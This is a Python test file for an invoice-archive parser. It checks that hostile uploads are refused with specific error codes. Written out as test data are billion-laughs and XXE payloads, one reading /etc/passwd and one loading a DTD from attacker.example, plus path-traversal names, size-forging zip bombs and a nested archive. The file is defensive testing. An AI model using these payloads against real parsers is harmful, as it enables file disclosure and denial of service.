"""Hostile input: each case is built here and must be refused with its own code."""
from __future__ import annotations

import io
import struct
import zipfile

import pytest

from invoice_archive.formats import (
    CODES,
    InvoiceFormatError,
    Limits,
    open_ofd,
    read_invoice,
)

MINIMAL_OFD_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.1"><ofd:DocBody>'
    b"<ofd:DocInfo><ofd:DocID>x</ofd:DocID></ofd:DocInfo>"
    b"<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
)
MINIMAL_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Pages>'
    b'<ofd:Page ID="1" BaseLoc="Pages/Page_0/Content.xml"/></ofd:Pages></ofd:Document>'
)


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def refused(data: bytes, code: str, limits: Limits | None = None, filename: str = "x.ofd") -> InvoiceFormatError:
    with pytest.raises(InvoiceFormatError) as info:
        read_invoice(data, filename=filename, limits=limits)
    err = info.value
    assert err.code == code, (err.code, err.message, err.detail)
    assert err.http_status == CODES[code][0]
    assert err.message and any("\u4e00" <= ch <= "\u9fff" for ch in err.message)
    return err


def test_empty_file() -> None:
    refused(b"", "empty_file")


def test_not_a_zip_nor_anything_known() -> None:
    refused(b"hello, this is plain text and not an invoice", "unsupported_format")


def test_xml_with_doctype_is_refused_before_parsing() -> None:
    billion_laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b"<EInvoice><Header><EIid>&lol2;</EIid></Header></EInvoice>"
    )
    refused(billion_laughs, "xml_dtd_forbidden", filename="x.xml")


def test_dtd_inside_an_ofd_member_is_refused() -> None:
    evil_ofd_xml = MINIMAL_OFD_XML.replace(
        b"<ofd:OFD", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><ofd:OFD', 1
    )
    refused(make_zip({"OFD.xml": evil_ofd_xml, "Doc_0/Document.xml": MINIMAL_DOCUMENT}), "xml_dtd_forbidden")


# --------------------------------------------------------------------------
# builders


def minimal_ofd(extra: dict[str, bytes] | None = None) -> dict[str, bytes]:
    members = {"OFD.xml": MINIMAL_OFD_XML, "Doc_0/Document.xml": MINIMAL_DOCUMENT}
    members.update(extra or {})
    return members


def patch_central_directory(data: bytes, name: bytes, *, flags: int | None = None, size: int | None = None) -> bytes:
    """Rewrite one central-directory entry (and its local header) in place."""
    buf = bytearray(data)
    pos = 0
    while True:
        cd = buf.find(b"PK\x01\x02", pos)
        assert cd >= 0, name
        nlen = struct.unpack_from("<H", buf, cd + 28)[0]
        if bytes(buf[cd + 46 : cd + 46 + nlen]) == name:
            break
        pos = cd + 4
    local = struct.unpack_from("<L", buf, cd + 42)[0]
    if flags is not None:
        struct.pack_into("<H", buf, cd + 8, flags)
        struct.pack_into("<H", buf, local + 6, flags)
    if size is not None:
        struct.pack_into("<L", buf, cd + 24, size)
        struct.pack_into("<L", buf, local + 22, size)
    return bytes(buf)


# --------------------------------------------------------------------------
# size limits


def test_upload_too_large() -> None:
    data = make_zip(minimal_ofd({"Doc_0/Res/padding.bin": bytes(range(256)) * 64}), zipfile.ZIP_STORED)
    refused(data, "too_large", Limits(max_upload_bytes=len(data) - 1))


def test_too_many_members() -> None:
    data = make_zip(minimal_ofd({f"Doc_0/Res/r{i}.xml": b"<a/>" for i in range(40)}))
    refused(data, "too_many_members", Limits(max_members=20))


def test_forged_member_count_is_refused_before_parsing_entries() -> None:
    data = bytearray(make_zip(minimal_ofd()))
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, eocd + 8, 65000, 65000)
    refused(bytes(data), "too_many_members")


def test_zip_bomb_by_declared_size() -> None:
    huge = b"\0" * (21 * 1024 * 1024)  # 21 MiB of zeros deflate to ~20 KiB
    refused(make_zip(minimal_ofd({"Doc_0/Res/bomb.xml": huge})), "zip_bomb")


def test_zip_bomb_by_compression_ratio() -> None:
    refused(make_zip(minimal_ofd({"Doc_0/Res/bomb.xml": b"\0" * (3 * 1024 * 1024)})), "zip_bomb")


def test_zip_bomb_by_total_uncompressed_size() -> None:
    members = minimal_ofd({f"Doc_0/Res/r{i}.bin": bytes(range(256)) * 40 for i in range(5)})
    refused(make_zip(members), "zip_bomb", Limits(max_total_uncompressed=30_000))


def test_zip_bomb_that_lies_about_its_size_is_stopped_while_inflating() -> None:
    ofd_xml = MINIMAL_OFD_XML + b"<!--" + b" " * 2_000_000 + b"-->"
    data = make_zip({"OFD.xml": ofd_xml, "Doc_0/Document.xml": MINIMAL_DOCUMENT})
    liar = patch_central_directory(data, b"OFD.xml", size=len(MINIMAL_OFD_XML))
    err = refused(liar, "zip_bomb")
    assert err.detail["member"] == "OFD.xml"


# --------------------------------------------------------------------------
# archive structure


@pytest.mark.parametrize("name", ["../../etc/passwd", "Doc_0/../../escape.xml", "/etc/passwd", "C:/Windows/x.xml", "a\\..\\b.xml"])
def test_path_traversal_and_absolute_names(name: str) -> None:
    refused(make_zip(minimal_ofd({name: b"<x/>"})), "path_traversal")


def test_encrypted_zip() -> None:
    data = patch_central_directory(make_zip(minimal_ofd()), b"OFD.xml", flags=0x1)
    refused(data, "encrypted_zip")


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.95])
def test_truncated_zip(keep: float) -> None:
    data = make_zip(minimal_ofd({"Doc_0/Res/img.bin": bytes(range(256)) * 20}))
    refused(data[: int(len(data) * keep)], "truncated_zip")


def test_nested_archive_by_name() -> None:
    refused(make_zip(minimal_ofd({"Doc_0/Attachs/more.zip": make_zip({"a.txt": b"a"})})), "nested_archive")


def test_nested_archive_by_content_is_refused_when_read() -> None:
    data = make_zip(minimal_ofd({"Doc_0/Res/image_1.png": make_zip({"payload.exe": b"MZ" * 100})}))
    package = open_ofd(data)
    with pytest.raises(InvoiceFormatError) as info:
        package.check_all()
    assert info.value.code == "nested_archive"


def test_duplicate_member_names() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in minimal_ofd().items():
            archive.writestr(name, data)
        with pytest.warns(UserWarning):
            archive.writestr("OFD.xml", b"<other/>")
    refused(buf.getvalue(), "duplicate_member")


def test_corrupt_member_crc() -> None:
    data = bytearray(make_zip(minimal_ofd(), zipfile.ZIP_STORED))
    pos = data.find(b"DocBody")
    data[pos] ^= 0x20  # flip a byte of OFD.xml's stored data
    refused(bytes(data), "corrupt_zip")


def test_zip_without_ofd_xml_is_not_an_ofd() -> None:
    refused(make_zip({"readme.txt": b"hello"}), "unsupported_format")


# --------------------------------------------------------------------------
# XML


def test_entity_declaration_without_doctype_keyword_position_is_refused() -> None:
    doc = b'<?xml version="1.0"?>\n<!DOCTYPE EInvoice SYSTEM "http://attacker.example/x.dtd"><EInvoice/>'
    refused(doc, "xml_dtd_forbidden", filename="x.xml")


def test_malformed_xml_upload() -> None:
    refused(b"<EInvoice><Header><EIid>1</Header>", "xml_malformed", filename="x.xml")


def test_malformed_ofd_xml_member() -> None:
    refused(make_zip({"OFD.xml": b"<ofd:OFD><broken", "Doc_0/Document.xml": MINIMAL_DOCUMENT}), "xml_malformed")


def test_non_utf8_xml() -> None:
    gbk = '<?xml version="1.0" encoding="UTF-8"?><EInvoice><Header><EIid>发票</EIid></Header></EInvoice>'.encode("gbk")
    refused(gbk, "bad_encoding", filename="x.xml")


def test_utf16_xml() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><EInvoice/>'.encode("utf-16")
    refused(doc, "bad_encoding", filename="x.xml")


def test_declared_gbk_xml_is_read_not_refused() -> None:
    doc = (
        '<?xml version="1.0" encoding="GBK"?><EInvoice><Header><EIid>24310000000000000009</EIid></Header>'
        "<EInvoiceData><SellerInformation><SellerName>测试销售方</SellerName></SellerInformation></EInvoiceData></EInvoice>"
    ).encode("gbk")
    doc_read = read_invoice(doc, filename="x.xml")
    assert doc_read.seller.name == "测试销售方"


def test_deeply_nested_xml_does_not_crash() -> None:
    depth = 50_000
    doc = b"<EInvoice>" + b"<a>" * depth + b"</a>" * depth + b"</EInvoice>"
    with pytest.raises(InvoiceFormatError) as info:
        read_invoice(doc, filename="x.xml")
    assert info.value.code in ("not_an_invoice", "xml_malformed")


def test_xml_that_is_not_an_invoice() -> None:
    refused(b"<?xml version='1.0'?><note><to>finance</to></note>", "not_an_invoice", filename="x.xml")


# --------------------------------------------------------------------------
# disguised files


def test_image_renamed_ofd_is_unsupported() -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 100
    err = refused(png, "unsupported_format", filename="invoice.ofd")
    assert "PNG" in err.message


def test_pdf_renamed_ofd_is_read_as_pdf() -> None:
    from tests.support.textpdf import digital_invoice_lines, make_text_pdf

    doc = read_invoice(make_text_pdf(digital_invoice_lines("24310000000000000007")), filename="invoice.ofd")
    assert doc.source_format == "pdf"
    assert doc.number == "24310000000000000007"


def test_signed_looking_ofd_without_invoice_data_is_not_an_invoice() -> None:
    page = b'<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"/>'
    err = refused(make_zip(minimal_ofd({"Doc_0/Pages/Page_0/Content.xml": page})), "not_an_invoice")
    assert err.http_status == 422


def test_encrypted_pdf() -> None:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    refused(buf.getvalue(), "encrypted_pdf", filename="x.pdf")


def test_malformed_pdf() -> None:
    refused(b"%PDF-1.7\n" + bytes(range(256)) * 4, "pdf_malformed", filename="x.pdf")


def test_every_code_has_a_chinese_message_and_a_status() -> None:
    for code, (status, message) in CODES.items():
        assert status in (400, 413, 415, 422), code
        assert any("\u4e00" <= ch <= "\u9fff" for ch in message), code
        err = InvoiceFormatError(code)
        assert err.code == code and err.http_status == status and "{" not in err.message


def test_amplification_by_repeated_references_is_bounded() -> None:
    """An index that lists one big member thousands of times must not be parsed thousands of times."""
    import time

    big = b'<?xml version="1.0" encoding="UTF-8"?><eInvoice>' + b"<x>1</x>" * 100_000 + b"</eInvoice>"
    listing = b"".join(
        b'<ofd:Attachment ID="%d" Name="a" Format="xml"><ofd:FileLoc>big.xml</ofd:FileLoc></ofd:Attachment>' % i
        for i in range(3000)
    )
    attachments = b'<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016">' + listing + b"</ofd:Attachments>"
    document = MINIMAL_DOCUMENT.replace(
        b"</ofd:Document>", b"<ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments></ofd:Document>"
    )
    data = make_zip(
        {
            "OFD.xml": MINIMAL_OFD_XML,
            "Doc_0/Document.xml": document,
            "Doc_0/Attachs/Attachments.xml": attachments,
            "Doc_0/Attachs/big.xml": big,
        }
    )
    start = time.perf_counter()
    refused(data, "not_an_invoice")
    assert time.perf_counter() - start < 5
